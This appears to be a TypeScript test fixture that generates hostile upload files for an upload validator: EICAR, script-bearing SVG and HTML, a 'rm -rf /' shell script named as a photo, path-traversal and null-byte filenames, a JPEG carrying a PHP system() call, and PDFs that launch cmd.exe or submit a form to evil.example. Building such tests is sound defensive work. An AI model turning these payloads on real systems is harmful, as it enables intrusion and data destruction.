import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'

import { uploadSentences } from '@seneb/contracts/vocabulary/upload-rules'

import { aBomb, aPdf, aPhoto, aPng, packedObjects, pdfStream } from './sample-files.fixture.js'

export interface HostileFile {
  readonly what: string
  readonly name: string
  readonly bytes: Buffer
  readonly reason: keyof typeof uploadSentences
}

const eicar = [
  'X5O!P%@AP[4',
  String.fromCharCode(92),
  'PZX54(P^)7CC)7}$EICAR-STANDARD-',
  'ANTIVIRUS-TEST-FILE!$H+H*',
].join('')
const script = '<script>alert(1)</script>'
const zip = Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(60), Buffer.from('PK\x05\x06'), Buffer.alloc(18)])
const program = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(76),
  Buffer.from('This program cannot be run in DOS mode'),
])
const latin = (text: string) => Buffer.from(text, 'latin1')

/** Files that must not be kept (S12), made fresh for each run. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const [photo, png] = [await aPhoto(), await aPng()]
  return [...wrongKinds(photo), ...badNames(photo), ...polyglots(photo, png), ...damaged(photo, png), ...activePdfs()]
}

function wrongKinds(photo: Buffer): HostileFile[] {
  const file = (what: string, name: string, bytes: Buffer | string, reason: HostileFile['reason']) => ({
    ...{ what, name, bytes: Buffer.from(bytes), reason },
  })
  return [
    file('EICAR as itself', 'eicar.com', eicar, 'type'),
    file('EICAR called a PDF', 'eicar.pdf', eicar, 'mismatch'),
    file('an SVG with a script', 'photo.svg', `<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>`, 'type'),
    file('an SVG called a PNG', 'photo.png', `<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>`, 'mismatch'),
    file('a page', 'passport.html', `<html>${script}</html>`, 'type'),
    file('a page called a PDF', 'passport.pdf', `<html>${script}</html>`, 'mismatch'),
    file('a program', 'passport.exe', program, 'type'),
    file('a program called a photo', 'passport.jpg', program, 'mismatch'),
    file('a Linux program called a photo', 'passport.png', `\x7fELF${'\0'.repeat(60)}`, 'mismatch'),
    file('a shell script called a photo', 'passport.jpeg', '#!/bin/sh\nrm -rf /\n', 'mismatch'),
    file('an archive', 'documents.zip', zip, 'type'),
    file('an archive called a PDF', 'documents.pdf', zip, 'mismatch'),
    file('a gzip called a PNG', 'documents.png', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), 'mismatch'),
    file('a Word document called a PDF', 'cv.pdf', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'mismatch'),
    file('a GIF', 'photo.gif', 'GIF89a\x01\0\x01\0', 'type'),
    file('a photo called a PNG', 'photo.png', photo, 'mismatch'),
    file('a photo called a PDF', 'photo.pdf', photo, 'mismatch'),
    file('nothing', 'photo.jpg', '', 'empty'),
    file('10.1 MB', 'photo.jpg', Buffer.concat([photo, randomBytes(10.1 * 1024 * 1024)]), 'tooLarge'),
  ]
}

function badNames(photo: Buffer): HostileFile[] {
  const names: readonly (readonly [string, HostileFile['reason']])[] = [
    ['../../etc/passwd.jpg', 'name'],
    ['..\\..\\boot.jpg', 'name'],
    ['/etc/cron.d/photo.jpg', 'name'],
    ['photo.jpg\0.exe', 'name'],
    ['photo\0.jpg', 'name'],
    ['photo\r\nx-evil: 1.jpg', 'name'],
    ['%2e%2e%2fphoto.jpg', 'name'],
    ['photo\u202egpj.exe.jpg', 'name'],
    ['photo.jpg::$DATA', 'name'],
    ['.htaccess.jpg', 'name'],
    [`${'x'.repeat(300)}.jpg`, 'name'],
    ['photo.jpg.exe', 'type'],
    ['photo.php', 'type'],
    ['photo', 'type'],
    ['', 'name'],
  ]
  return names.map(([name, reason]) => ({
    what: `a photo called ${JSON.stringify(name.slice(0, 30))}`,
    name,
    bytes: photo,
    reason,
  }))
}

function polyglots(photo: Buffer, png: Buffer): HostileFile[] {
  const commented = Buffer.concat([
    ...[
      photo.subarray(0, 2),
      Buffer.from([0xff, 0xfe, 0, 2 + 20]),
      Buffer.from('<?php system($x);?> '),
      photo.subarray(2),
    ],
  ])
  const file = (what: string, name: string, ...parts: Buffer[]) => ({
    ...{ what, name, bytes: Buffer.concat(parts), reason: 'unsafe' as const },
  })
  return [
    file('a photo with a script behind it', 'photo.jpg', photo, latin(script)),
    file('a photo with PHP in its comment', 'photo.jpg', commented),
    file('a photo with an archive behind it', 'photo.jpg', photo, zip),
    file('a photo with a PDF behind it', 'photo.jpg', photo, aPdf()),
    file('a photo with EICAR behind it', 'photo.jpg', photo, latin(eicar)),
    file('a PNG with a script behind it', 'photo.png', png, latin(script)),
    file('a PNG with anything behind it', 'photo.png', png, randomBytes(40)),
    file('a PDF with an archive behind it', 'cv.pdf', aPdf(), zip),
    file('a PDF with a page in it', 'cv.pdf', aPdf({ objects: [`(${script})`] })),
    file('a PDF with much behind its end', 'cv.pdf', aPdf(), Buffer.alloc(5000)),
  ]
}

function damaged(photo: Buffer, png: Buffer): HostileFile[] {
  return [
    { what: 'a truncated photo', name: 'photo.jpg', bytes: photo.subarray(0, photo.length / 2), reason: 'damaged' },
    { what: 'a truncated PNG', name: 'photo.png', bytes: png.subarray(0, png.length - 30), reason: 'damaged' },
    {
      what: 'the beginning of a photo and noise',
      name: 'photo.jpg',
      bytes: Buffer.concat([photo.subarray(0, 20), randomBytes(5000)]),
      reason: 'damaged',
    },
    { what: 'the beginning of a PDF', name: 'cv.pdf', bytes: Buffer.from('%PDF-1.7\nnothing more'), reason: 'damaged' },
    { what: 'a truncated PDF', name: 'cv.pdf', bytes: aPdf().subarray(0, 250), reason: 'damaged' },
    { what: 'a decompression bomb', name: 'photo.png', bytes: aBomb(), reason: 'picture' },
  ]
}

function activePdfs(): HostileFile[] {
  const pdf = (what: string, parts: Parameters<typeof aPdf>[0]) => ({
    ...{ what: `a PDF ${what}`, name: 'cv.pdf', bytes: aPdf(parts), reason: 'activePdf' as const },
  })
  const action = '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'
  return [
    pdf('that runs a script when it is opened', { catalog: action }),
    pdf('with a script under a short name', { objects: ['<< /JS (x) >>'] }),
    pdf('whose names are escaped', { catalog: '/Names << /J#61vaScript 5 0 R >>' }),
    pdf('that starts a program', { catalog: '/A << /S /Launch /F (cmd.exe) >>' }),
    pdf('with a file in it', { objects: [pdfStream('/Type /EmbeddedFile', deflateSync(program))] }),
    pdf('that acts on events', { catalog: '/AA << /WC 5 0 R >>' }),
    pdf('that sends a form', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
    pdf('with an XFA form', { catalog: '/AcroForm << /XFA 5 0 R >>' }),
    pdf('that is encrypted', { catalog: '/Encrypt 5 0 R' }),
    pdf('with a packed script', { objects: [packedObjects('<< /S /JavaScript /JS (x) >>')] }),
    pdf('with a packed and escaped script', { objects: [packedObjects('<< /S /J#61vaScript >>')] }),
    pdf('with objects packed in a way we do not unpack', {
      objects: [packedObjects('<< >>', '/Filter [/ASCII85Decode /FlateDecode]')],
    }),
    pdf('whose packed objects are a bomb', { objects: [packedObjects(' '.repeat(64 * 1024 * 1024))] }),
    pdf('with a script inside what is called a stream', {
      objects: [pdfStream('', latin('<< /S /JavaScript >>'), '')],
    }),
  ]
}
